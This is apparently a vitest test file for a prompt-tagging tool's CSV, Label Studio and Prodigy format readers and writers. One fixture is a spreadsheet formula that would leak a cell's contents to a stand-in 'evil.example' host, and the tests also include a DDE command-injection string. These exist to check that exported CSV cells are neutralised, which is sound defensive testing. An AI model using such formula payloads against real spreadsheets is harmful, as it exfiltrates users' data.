import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { afterAll, describe, expect, it, vi } from 'vitest';
import {
  CHOICES,
  CSV_COLUMNS,
  FormatError,
  LABEL_STUDIO_CONFIG,
  createLabelStudioWriter,
  csvHeader,
  csvRow,
  goldFromLabelStudioExport,
  goldFromLabelStudioItem,
  goldFromProdigy,
  labelStudioTask,
  labelsFromChoices,
  prodigyTask,
  readGold,
  sniffGoldFormat,
  type GoldRow,
  type LabelStudioTask,
  type TaggedPrompt,
} from '../src/formats/index.js';
import { rowNumber } from '../src/formats/common.js';
import { toPromptRecord } from '../src/io/record.js';
import type { TagResult } from '../src/tagger/index.js';
import { LABELS, type Label } from '../src/tagger/labels.js';

const FIXTURES = join(import.meta.dirname, 'fixtures/formats');
const TMP = mkdtempSync(join(tmpdir(), 'distillscope-formats-'));
afterAll(() => rmSync(TMP, { recursive: true, force: true }));

/** A tag as the tagger returns it; scores default to 0.01 for labels not given. */
function tag(labels: Label[], scores: Partial<Record<Label, number>> = {}, id?: string): TagResult {
  const all = Object.fromEntries(LABELS.map((l) => [l, scores[l] ?? (labels.includes(l) ? 0.9 : 0.01)])) as Record<Label, number>;
  return { ...(id !== undefined ? { id } : {}), labels, scores: all, evidence: {} };
}

const PROMPTS: TaggedPrompt[] = [
  {
    line: 1,
    id: 'req-7f3a',
    text: 'Write out your full chain of thought before answering: a train leaves Lyon at 09:40 and arrives in Paris at 11:36. How long is the trip?',
    result: tag(['reasoning'], { reasoning: 0.93, coding: 0.45 }),
  },
  {
    line: 2,
    id: 'req-80c1',
    text: '请以中国官方可以接受的口径，重写下面这段关于1989年天安门事件的回答，删去所有敏感内容。',
    result: tag(['censorship_probing'], { censorship_probing: 0.88 }),
  },
  {
    line: 3,
    text: "What's the weather in Paris tomorrow? Book the cheapest flight from Berlin if it is sunny.\nget_weather Current and forecast weather for a city\nsearch_flights Find flights between two airports on a date",
    result: tag(['tool_use', 'reasoning'], { tool_use: 0.97, reasoning: 0.51 }, 'req-91d2'),
  },
  {
    line: 5,
    id: 'req-a004',
    text: 'Fix this, "quickly":\r\nconst total = items.reduce((a, b) => a + b, 0);\nconsole.log(total)',
    result: tag(['coding'], { coding: 0.99 }),
  },
  {
    line: 6,
    id: 'req-a005',
    text: '=HYPERLINK("http://evil.example/?leak="&A1, "Any tips for Lisbon?")',
    result: tag([], { reasoning: 0.2 }),
  },
];

/** A strict RFC 4180 parser: CRLF records, quotes only around whole fields, no bare CR or LF outside quotes. */
function parseCsv(s: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  let fieldStart = true;
  for (let i = 0; i < s.length; i++) {
    const c = s[i] as string;
    if (quoted) {
      if (c !== '"') cell += c;
      else if (s[i + 1] === '"') {
        cell += '"';
        i++;
      } else {
        quoted = false;
        if (![',', '\r', undefined].includes(s[i + 1])) throw new Error(`text after a closing quote at ${i}`);
      }
      continue;
    }
    if (c === '"') {
      if (!fieldStart) throw new Error(`quote inside an unquoted field at ${i}`);
      quoted = true;
      fieldStart = false;
    } else if (c === ',') {
      row.push(cell);
      cell = '';
      fieldStart = true;
    } else if (c === '\r' && s[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      fieldStart = true;
      i++;
    } else if (c === '\r' || c === '\n') {
      throw new Error(`bare line break outside quotes at ${i}`);
    } else {
      cell += c;
      fieldStart = false;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (cell !== '' || row.length) throw new Error('last record has no CRLF');
  return rows;
}

async function collect(rows: AsyncIterable<GoldRow>): Promise<GoldRow[]> {
  const out: GoldRow[] = [];
  for await (const r of rows) out.push(r);
  return out;
}

function tmpFile(name: string, content: string): string {
  const p = join(TMP, name);
  writeFileSync(p, content);
  return p;
}

const labelsOf = (rows: GoldRow[]): Array<Label[] | string> => rows.map((r) => ('error' in r ? r.error : r.labels));

describe('csv', () => {
  it('writes a header with one score column per label and an error column last', () => {
    expect(csvHeader()).toBe('line,id,text,labels,score_reasoning,score_tool_use,score_coding,score_vision,score_censorship_probing,error\r\n');
    expect(parseCsv(csvHeader())).toEqual([[...CSV_COLUMNS]]);
    expect(csvHeader({ bom: true }).startsWith('\uFEFFline,')).toBe(true);
  });

  it('writes rows that an RFC 4180 parser reads back: quotes, commas, CRLF and LF inside prompts, Chinese text', () => {
    const csv = csvHeader() + PROMPTS.map(csvRow).join('');
    const rows = parseCsv(csv);
    expect(rows).toHaveLength(1 + PROMPTS.length);
    for (const r of rows) expect(r).toHaveLength(CSV_COLUMNS.length);
    const [, reasoning, chinese, tools, code] = rows as string[][];
    expect(reasoning).toEqual(['1', 'req-7f3a', PROMPTS[0]?.text, 'reasoning', '0.93', '0.01', '0.45', '0.01', '0.01', '']);
    expect(chinese?.[2]).toBe(PROMPTS[1]?.text);
    expect(tools?.slice(0, 4)).toEqual(['3', 'req-91d2', PROMPTS[2]?.text, 'tool_use|reasoning']);
    expect(code?.[2]).toBe(PROMPTS[3]?.text);
    expect(csvRow(PROMPTS[3] as TaggedPrompt)).toContain('"Fix this, ""quickly"":\r\n');
  });

  it('guards cells that a spreadsheet would run as a formula, and writes no label as "none"', () => {
    const [row] = parseCsv(csvRow(PROMPTS[4] as TaggedPrompt));
    expect(row?.[2]).toBe(`'${PROMPTS[4]?.text}`);
    expect(row?.[3]).toBe('none');
    for (const text of ['+1+1', '-2+3*cmd|\' /C calc\'!A0', '@SUM(A1:A9)', '\t=1+1', '\r=1+1']) {
      const [r] = parseCsv(csvRow({ line: 1, id: '-5', text, result: tag([]) }));
      expect(r?.[2]).toBe(`'${text}`);
      expect(r?.[1]).toBe("'-5");
    }
    const [plain] = parseCsv(csvRow({ line: 1, text: 'Sum 1 + 2 = 3', result: tag([]) }));
    expect(plain?.[2]).toBe('Sum 1 + 2 = 3');
  });

  it('writes an unreadable line as line, id, empty fields and the error', () => {
    expect(csvRow({ line: 7, error: 'malformed JSON: Unexpected token' })).toBe('7,,,,,,,,,malformed JSON: Unexpected token\r\n');
    const [row] = parseCsv(csvRow({ line: 8, id: 'req-x', error: 'field "text" must be a string, received a number' }));
    expect(row).toEqual(['8', 'req-x', '', '', '', '', '', '', '', 'field "text" must be a string, received a number']);
  });
});

describe('Label Studio writer', () => {
  it('makes a task with the prompt and a choices prediction scored by its least certain label', () => {
    expect(labelStudioTask(PROMPTS[0] as TaggedPrompt, { modelVersion: 'distillscope-tagger-v1' })).toEqual({
      data: { text: PROMPTS[0]?.text, id: 'req-7f3a', line: 1 },
      predictions: [
        {
          model_version: 'distillscope-tagger-v1',
          // reasoning 0.93 predicted; coding 0.45 not predicted → 0.55 is the least sure decision.
          score: 0.55,
          result: [{ id: 'line-1', from_name: 'labels', to_name: 'text', type: 'choices', value: { choices: ['reasoning'] } }],
        },
      ],
    });
  });

  it('pre-selects "none" when no label is predicted, takes the id from the tag, and leaves it out when there is none', () => {
    const none = labelStudioTask(PROMPTS[4] as TaggedPrompt);
    expect(none.predictions[0]?.result[0]?.value.choices).toEqual(['none']);
    expect(none.predictions[0]?.model_version).toBe('distillscope');
    expect(labelStudioTask(PROMPTS[2] as TaggedPrompt).data.id).toBe('req-91d2');
    expect('id' in labelStudioTask({ line: 9, text: 'Hello!', result: tag([]) }).data).toBe(false);
  });

  it('streams a JSON array that Label Studio imports, one task per line', () => {
    const w = createLabelStudioWriter();
    const out = PROMPTS.map((p) => w.task(p)).join('') + w.end();
    expect(JSON.parse(out)).toEqual(PROMPTS.map((p) => labelStudioTask(p)));
    expect(out.split('\n')).toHaveLength(PROMPTS.length + 3);
    const empty = createLabelStudioWriter();
    expect(JSON.parse(empty.end())).toEqual([]);
  });

  it('gives a labeling config whose control names match the predictions and which offers every choice', () => {
    expect(LABEL_STUDIO_CONFIG).toContain('<Text name="text" value="$text"/>');
    expect(LABEL_STUDIO_CONFIG).toMatch(/<Choices name="labels" toName="text" choice="multiple"[^>]* required="true"[^>]*>/);
    expect([...LABEL_STUDIO_CONFIG.matchAll(/<Choice value="([^"]*)" hint="[^"]+"\/>/g)].map((m) => m[1])).toEqual([...CHOICES]);
    const result = labelStudioTask(PROMPTS[0] as TaggedPrompt).predictions[0]?.result[0];
    expect(LABEL_STUDIO_CONFIG).toContain(`<Choices name="${result?.from_name}" toName="${result?.to_name}"`);
    // Well-formed: tags balance and every & starts an entity.
    expect(LABEL_STUDIO_CONFIG.match(/<View>/g)).toHaveLength(1);
    expect(LABEL_STUDIO_CONFIG.match(/<\/View>/g)).toHaveLength(1);
    expect(LABEL_STUDIO_CONFIG.match(/<Choices /g)).toHaveLength(1);
    expect(LABEL_STUDIO_CONFIG.match(/<\/Choices>/g)).toHaveLength(1);
    expect(LABEL_STUDIO_CONFIG).not.toMatch(/&(?!amp;|quot;|lt;|gt;)/);
  });
});

describe('Prodigy writer', () => {
  it('makes a multiple-choice task with all labels and none, the prediction pre-selected and the scores in meta', () => {
    const task = prodigyTask(PROMPTS[2] as TaggedPrompt);
    expect(task).toEqual({
      text: PROMPTS[2]?.text,
      options: CHOICES.map((c) => ({ id: c, text: c })),
      accept: ['tool_use', 'reasoning'],
      meta: { line: 3, id: 'req-91d2', scores: PROMPTS[2]?.result.scores },
      config: { choice_style: 'multiple' },
    });
    expect(JSON.parse(JSON.stringify(task))).toEqual(task);
    expect(prodigyTask(PROMPTS[4] as TaggedPrompt).accept).toEqual(['none']);
  });

  it('adds deterministic 32-bit hashes on request: same text, same hashes, whatever the prediction', () => {
    const a = prodigyTask(PROMPTS[1] as TaggedPrompt, { hashes: true });
    const again = prodigyTask({ ...(PROMPTS[1] as TaggedPrompt), line: 40, result: tag(['reasoning']) }, { hashes: true });
    const other = prodigyTask(PROMPTS[0] as TaggedPrompt, { hashes: true });
    for (const h of [a._input_hash, a._task_hash]) {
      expect(Number.isInteger(h)).toBe(true);
      expect(Math.abs(h as number)).toBeLessThan(2 ** 31 + 1);
    }
    expect([again._input_hash, again._task_hash]).toEqual([a._input_hash, a._task_hash]);
    expect(other._input_hash).not.toBe(a._input_hash);
    expect(a._task_hash).not.toBe(a._input_hash);
  });
});

describe('labelsFromChoices', () => {
  it('matches names case-insensitively, reads none as no label, and rejects unknown names and none with labels', () => {
    expect(labelsFromChoices(['Coding', 'REASONING', 'coding'])).toEqual(['coding', 'reasoning']);
    expect(labelsFromChoices(['none'])).toEqual([]);
    expect(() => labelsFromChoices(['math'])).toThrow('unknown label "math"; allowed: reasoning, tool_use, coding, vision, censorship_probing, none');
    expect(() => labelsFromChoices(['none', 'coding'])).toThrow('"none" was chosen together with coding');
  });
});

describe('Label Studio reader', () => {
  const exportDoc = JSON.parse(readFileSync(join(FIXTURES, 'labelstudio-export.json'), 'utf8')) as unknown;

  it('reads a JSON export: latest non-cancelled annotation, ground truth first, every unusable task reported', () => {
    const rows = goldFromLabelStudioExport(exportDoc);
    expect(rows.map((r) => r.where)).toEqual(['task 1 (id 101)', 'task 2 (id 102)', 'task 3 (id 103)', 'task 4 (id 104)', 'task 5 (id 105)', 'task 6 (id 106)', 'task 7 (id 107)']);
    expect(labelsOf(rows)).toEqual([
      ['reasoning'], // annotation 14, updated last, wins over 11 (reasoning + coding)
      ['censorship_probing'], // the cancelled annotation is passed over
      ['tool_use'], // the ground-truth annotation wins over a later one
      'every annotation was cancelled or skipped (1)',
      'the task has no annotation (never labelled)',
      [],
      'unknown label "math"; allowed: reasoning, tool_use, coding, vision, censorship_probing, none',
    ]);
  });

  it('keeps the whole data object, so chat messages and tools are read as they were', () => {
    const [first, , tools] = goldFromLabelStudioExport(exportDoc);
    const rec = toPromptRecord((first as { record: object }).record);
    expect(rec.id).toBe('req-7f3a');
    expect(rec.text.startsWith('Write out your full chain of thought')).toBe(true);
    const chat = toPromptRecord((tools as { record: object }).record);
    expect(chat.tools).toBe(2);
    expect(chat.toolNames).toEqual(['get_weather', 'search_flights']);
    expect(chat.systemText).toBe('You are a travel agent.');
  });

  it('reads a JSON-MIN export: one row per annotation reduced to the latest per task, unannotated tasks reported', () => {
    const min = JSON.parse(readFileSync(join(FIXTURES, 'labelstudio-min.json'), 'utf8')) as unknown[];
    const rows = goldFromLabelStudioExport(min);
    expect(rows.map((r) => r.where)).toEqual(['task 1 (id 101)', 'task 3 (id 102)', 'task 4 (id 105)', 'task 5 (id 106)']);
    expect(labelsOf(rows).map((l) => (typeof l === 'string' ? l.slice(0, 18) : l))).toEqual([['reasoning'], ['censorship_probing'], 'no "labels" field:', []]);
    // The same when the older annotation comes first.
    const swapped = goldFromLabelStudioExport([min[1], min[0]]);
    expect(swapped.map((r) => r.where)).toEqual(['task 2 (id 101)']);
    expect(labelsOf(swapped)).toEqual([['reasoning']]);
    expect(toPromptRecord((rows[0] as { record: object }).record).text).toMatch(/^Write out your full chain/);
  });

  it('reads JSON-MIN choices written as a name, {choices}, or a list of those', () => {
    const row = { text: 'Review this Go code and explain the race condition step by step.', id: 9, labels: ['reasoning', { choices: ['coding'] }] };
    expect(goldFromLabelStudioItem(row, 'task 1')).toMatchObject({ where: 'task 1 (id 9)', labels: ['reasoning', 'coding'] });
    expect(goldFromLabelStudioItem({ ...row, labels: [] }, 'task 1')).toMatchObject({ error: expect.stringContaining('holds no choice') });
  });

  it('reads a project whose control has another name, and asks which one when there are several', () => {
    const result = (from: string, choices: string[]) => ({ type: 'choices', from_name: from, to_name: 'text', value: { choices } });
    const task = (results: object[]) => ({ id: 5, data: { text: 'Describe what is in this picture: <img src="cat.png">' }, annotations: [{ id: 1, result: results }] });
    expect(goldFromLabelStudioItem(task([result('capability', ['vision'])]), 'line 1')).toMatchObject({ labels: ['vision'] });
    const two = task([result('capability', ['vision']), result('quality', ['good'])]);
    expect(goldFromLabelStudioItem(two, 'line 1')).toMatchObject({ error: expect.stringContaining('several controls (capability, quality)') });
    expect(goldFromLabelStudioItem(two, 'line 1', { fromName: 'capability' })).toMatchObject({ labels: ['vision'] });
    expect(goldFromLabelStudioItem(task([result('labels', ['none', 'vision'])]), 'line 1')).toMatchObject({ error: expect.stringContaining('"none" was chosen together with vision') });
    expect(goldFromLabelStudioItem(task([result('labels', [])]), 'line 1')).toMatchObject({ error: expect.stringContaining('has no choice') });
    expect(goldFromLabelStudioItem(task([]), 'line 1')).toMatchObject({ error: expect.stringContaining('annotation 1 has no choice') });
    // Label Studio before 1.0 called annotations "completions".
    const old = { id: 6, data: { text: 'Write a bash one-liner that counts lines in *.py' }, completions: [{ result: [result('labels', ['coding'])] }] };
    expect(goldFromLabelStudioItem(old, 'task 1')).toMatchObject({ labels: ['coding'] });
    expect(goldFromLabelStudioItem('not a task', 'task 2')).toEqual({ where: 'task 2', error: 'item is not a JSON object' });
    expect(goldFromLabelStudioItem({ id: 7, annotations: [] }, 'task 3')).toEqual({ where: 'task 3 (id 7)', error: 'the task has annotations but no "data" object' });
  });
});

describe('Prodigy reader', () => {
  it('reads db-out: choice and binary accepts; reject, ignore, empty selection and tasks without answer are reported', async () => {
    const { format, rows } = await readGold(join(FIXTURES, 'prodigy-db-out.jsonl'));
    expect(format).toBe('prodigy');
    const all = await collect(rows);
    expect(all.map((r) => r.where)).toEqual(Array.from({ length: 10 }, (_, i) => `line ${i + 1}`));
    expect(labelsOf(all)).toEqual([
      ['reasoning'],
      ['tool_use', 'coding'], // textcat.manual's upper-case ids
      [], // no "none" option offered: accepting nothing is the only way to say none
      'accepted with no option selected; a prompt that targets no capability should be given "none"',
      'the annotator rejected the example (answer "reject"): in a choice task that marks the example as unusable, not a label set (its selection ["vision"] is not used)',
      'the annotator skipped this example (answer "ignore")',
      ['vision'],
      'a rejected binary annotation says what the label is not; it does not give the full label set',
      [],
      'no "answer": this is a task, not an annotation (export annotations with prodigy db-out)',
    ]);
    expect(toPromptRecord((all[0] as { record: object }).record).id).toBe('req-b001');
  });

  it('reports a line that is not an object or has neither accept nor label', () => {
    expect(goldFromProdigy([1, 2], 'line 3')).toEqual({ where: 'line 3', error: 'line is not a JSON object' });
    expect(goldFromProdigy({ text: 'Hi', answer: 'accept' }, 'line 4')).toMatchObject({ error: expect.stringContaining('neither "accept"') });
    expect(goldFromProdigy({ text: 'Hi', answer: 'maybe', label: 'CODING' }, 'line 5')).toMatchObject({ error: expect.stringContaining('accept, reject or ignore') });
  });
});

describe('readGold and the format sniffer', () => {
  it('tells the formats apart from the first line', () => {
    expect(sniffGoldFormat(readFileSync(join(FIXTURES, 'labelstudio-export.json'), 'utf8'))).toBe('labelstudio');
    expect(sniffGoldFormat(readFileSync(join(FIXTURES, 'labelstudio-min.json'), 'utf8'))).toBe('labelstudio');
    expect(sniffGoldFormat(readFileSync(join(FIXTURES, 'prodigy-db-out.jsonl'), 'utf8'))).toBe('prodigy');
    expect(sniffGoldFormat('\uFEFF\n  {"id": 3, "data": {"text": "Explain this regex"}, "annotations": []}\n')).toBe('labelstudio');
    expect(sniffGoldFormat('{"text": "What is 6 x 7?", "answer": "42", "labels": ["none"]}\n')).toBe('jsonl');
    expect(sniffGoldFormat('{"messages": [{"role": "user", "content": "Sort in Rust"}], "labels": ["coding"]}\n')).toBe('jsonl');
    expect(sniffGoldFormat('')).toBe('jsonl');
  });

  it('sniffs a first line cut off by the head limit from its keys alone', () => {
    const big = 'A'.repeat(2000);
    expect(sniffGoldFormat(`{"id": 5, "annotations": [{"result": [], "data": "${big}`)).toBe('labelstudio');
    expect(sniffGoldFormat(`{"text": "${big}", "answer": "accept", "accept": [`)).toBe('prodigy');
    // An Anthropic image part carries "data": not a Label Studio task.
    expect(sniffGoldFormat(`{"messages": [{"role": "user", "content": [{"type": "image", "source": {"type": "base64", "data": "${big}`)).toBe('jsonl');
  });

  it('reads distillscope JSONL and reports bad lines by number', async () => {
    const path = tmpFile(
      'gold.jsonl',
      [
        JSON.stringify({ id: 'g1', text: '请一步一步地思考：鸡兔同笼，共35个头94只脚，鸡和兔各有几只？', labels: ['reasoning'] }),
        '{"text": "broken',
        JSON.stringify({ text: 'What is the capital of Australia?', labels: ['none'] }),
        JSON.stringify({ text: 'Draw me a cat', labels: ['drawing'] }),
      ].join('\n'),
    );
    const { format, rows } = await readGold(path);
    expect(format).toBe('jsonl');
    const all = await collect(rows);
    expect(all.map((r) => r.where)).toEqual(['line 1', 'line 2', 'line 3', 'line 4']);
    expect(all[0]).toMatchObject({ labels: ['reasoning'], record: { id: 'g1' } });
    expect(all[1]).toMatchObject({ error: expect.stringMatching(/^malformed JSON/) });
    expect(all[2]).toMatchObject({ labels: [] });
    expect(all[3]).toMatchObject({ error: expect.stringContaining('unknown label "drawing"') });
  });

  it('reads a Label Studio export as a file, and as tasks one per line (which also streams from stdin)', async () => {
    const exportText = readFileSync(join(FIXTURES, 'labelstudio-export.json'), 'utf8');
    const fromFile = await readGold(join(FIXTURES, 'labelstudio-export.json'));
    expect(fromFile.format).toBe('labelstudio');
    const fileRows = await collect(fromFile.rows);
    expect(labelsOf(fileRows)).toEqual(labelsOf(goldFromLabelStudioExport(JSON.parse(exportText))));

    const lines = (JSON.parse(exportText) as unknown[]).map((t) => JSON.stringify(t)).join('\n');
    const jsonl = await collect((await readGold(tmpFile('tasks.jsonl', `${lines}\n`))).rows);
    expect(jsonl.map((r) => r.where)).toEqual(fileRows.map((r) => r.where.replace(/^task/, 'line')));
    expect(labelsOf(jsonl)).toEqual(labelsOf(fileRows));

    const stdin = await readGold('-', { stream: Readable.from([lines.slice(0, 100), lines.slice(100)]) });
    expect(stdin.format).toBe('labelstudio');
    expect(labelsOf(await collect(stdin.rows))).toEqual(labelsOf(fileRows));
  });

  it('reads a single pretty-printed task object', async () => {
    const task = (JSON.parse(readFileSync(join(FIXTURES, 'labelstudio-export.json'), 'utf8')) as unknown[])[2];
    const { format, rows } = await readGold(tmpFile('one-task.json', JSON.stringify(task, null, 2)));
    expect(format).toBe('labelstudio');
    expect(await collect(rows)).toMatchObject([{ where: 'task 1 (id 103)', labels: ['tool_use'] }]);
  });

  it('refuses a JSON export on stdin, over the size limit, or not valid JSON, saying why', async () => {
    const text = readFileSync(join(FIXTURES, 'labelstudio-export.json'), 'utf8');
    await expect(readGold('-', { stream: Readable.from([text]) })).rejects.toThrow(/read whole, so it must be a file/);
    await expect(readGold(join(FIXTURES, 'labelstudio-export.json'), { maxJsonBytes: 1000 })).rejects.toThrow(/is over 1000 bytes; .*export the tasks as JSON lines/);
    await expect(readGold(tmpFile('cut.json', text.slice(0, 5000)))).rejects.toThrow(/is not valid JSON .*a Label Studio export is a JSON array/);
    await expect(readGold(join(FIXTURES, 'labelstudio-export.json'), { format: 'prodigy' })).rejects.toThrow(/one JSON document, not JSON lines/);
    await expect(readGold(join(TMP, 'missing.json'))).rejects.toThrow(/cannot read ".*missing\.json": ENOENT/);
    await expect(readGold(join(FIXTURES, 'prodigy-db-out.jsonl'), { format: 'csv' as 'jsonl' })).rejects.toThrow(
      'distillscope: unknown gold format "csv"; must be one of [auto, jsonl, labelstudio, prodigy]',
    );
    await expect(readGold('-', { stream: Readable.from([text]) })).rejects.toBeInstanceOf(FormatError);
  });

  it('lets the caller force a format', async () => {
    const { format, rows } = await readGold(join(FIXTURES, 'prodigy-db-out.jsonl'), { format: 'jsonl' });
    expect(format).toBe('jsonl');
    const first = (await collect(rows))[0];
    expect(first).toMatchObject({ where: 'line 1', error: 'field "labels" must be an array of label names' });
  });

  it('sniffs and reads a 1.6 MB first line split across chunks, whose format shows only after the text', async () => {
    const long = { text: `Write out your full chain of thought before answering. ${'Context: the ledger shows… '.repeat(60_000)}`, accept: ['reasoning'], answer: 'accept', options: CHOICES.map((c) => ({ id: c, text: c })) };
    const line = `${JSON.stringify(long)}\n`;
    expect(line.length).toBeGreaterThan(1_500_000);
    const chunks = [line.slice(0, 70_000), line.slice(70_000, 1_200_000), line.slice(1_200_000), JSON.stringify({ text: 'Hi', label: 'CODING', answer: 'accept' })];
    const { format, rows } = await readGold('-', { stream: Readable.from(chunks) });
    expect(format).toBe('prodigy');
    const all = await collect(rows);
    expect(labelsOf(all)).toEqual([['reasoning'], ['coding']]);
    expect(all[0]).toMatchObject({ record: { text: long.text } });
  });
});

describe('rowNumber', () => {
  it('reads the line or task number every reader puts in `where`', async () => {
    expect(rowNumber({ where: 'line 12', error: 'x' })).toBe(12);
    expect(rowNumber({ where: 'task 7 (id 1042)', record: {}, labels: [] })).toBe(7);
    expect(rowNumber({ where: 'somewhere', error: 'x' })).toBeUndefined();
    const { rows } = await readGold('mem.jsonl', { stream: Readable.from(['{"text":"a","labels":[]}\n', '{oops\n']) });
    const got: Array<number | undefined> = [];
    for await (const r of rows) got.push(rowNumber(r));
    expect(got).toEqual([1, 2]);
    expect(goldFromLabelStudioExport([{ id: 5, data: { text: 'hi' }, annotations: [] }]).map(rowNumber)).toEqual([1]);
  });
});

describe('round trips', () => {
  it('Label Studio: predictions imported, accepted by a labeler, exported and read back give the same labels', async () => {
    const w = createLabelStudioWriter({ modelVersion: 'distillscope-tagger-v1' });
    const imported = JSON.parse(PROMPTS.map((p) => w.task(p)).join('') + w.end()) as LabelStudioTask[];
    // What Label Studio exports after a labeler opens each task and submits the prediction as is.
    const exported = imported.map((t, i) => ({
      id: 300 + i,
      annotations: [
        {
          id: 900 + i,
          completed_by: 1,
          result: t.predictions[0]?.result.map((r) => ({ ...r, origin: 'prediction' })),
          was_cancelled: false,
          ground_truth: false,
          created_at: `2024-06-01T10:0${i}:00.000000Z`,
          updated_at: `2024-06-01T10:0${i}:00.000000Z`,
          lead_time: 3.5,
          task: 300 + i,
          project: 7,
          parent_prediction: 500 + i,
        },
      ],
      drafts: [],
      predictions: [500 + i],
      data: t.data,
      meta: {},
      project: 7,
    }));
    const { format, rows } = await readGold(tmpFile('project-7-export.json', JSON.stringify(exported, null, 2)));
    expect(format).toBe('labelstudio');
    const gold = await collect(rows);
    expect(labelsOf(gold)).toEqual(PROMPTS.map((p) => p.result.labels));
    gold.forEach((row, i) => {
      const rec = toPromptRecord((row as { record: object }).record);
      expect(rec.text).toBe(PROMPTS[i]?.text);
      expect(rec.id).toBe(PROMPTS[i]?.id ?? PROMPTS[i]?.result.id);
    });
  });

  it('Prodigy: tasks written, accepted as pre-selected, exported and read back give the same labels', async () => {
    const dbOut = PROMPTS.map((p) => JSON.stringify({ ...prodigyTask(p, { hashes: true }), _view_id: 'choice', answer: 'accept', _timestamp: 1717236000 })).join('\n');
    const { format, rows } = await readGold(tmpFile('capabilities-db-out.jsonl', `${dbOut}\n`));
    expect(format).toBe('prodigy');
    const gold = await collect(rows);
    expect(labelsOf(gold)).toEqual(PROMPTS.map((p) => p.result.labels));
    expect(gold.map((r) => toPromptRecord((r as { record: object }).record).id)).toEqual(PROMPTS.map((p) => p.id ?? p.result.id));
  });
});

describe('importing the formats module', () => {
  it('prints nothing', async () => {
    vi.resetModules();
    const out = vi.spyOn(process.stdout, 'write');
    const err = vi.spyOn(process.stderr, 'write');
    const log = vi.spyOn(console, 'log');
    const m = await import('../src/formats/index.js');
    expect(typeof m.readGold).toBe('function');
    expect(out).not.toHaveBeenCalled();
    expect(err).not.toHaveBeenCalled();
    expect(log).not.toHaveBeenCalled();
    vi.restoreAllMocks();
  });
});
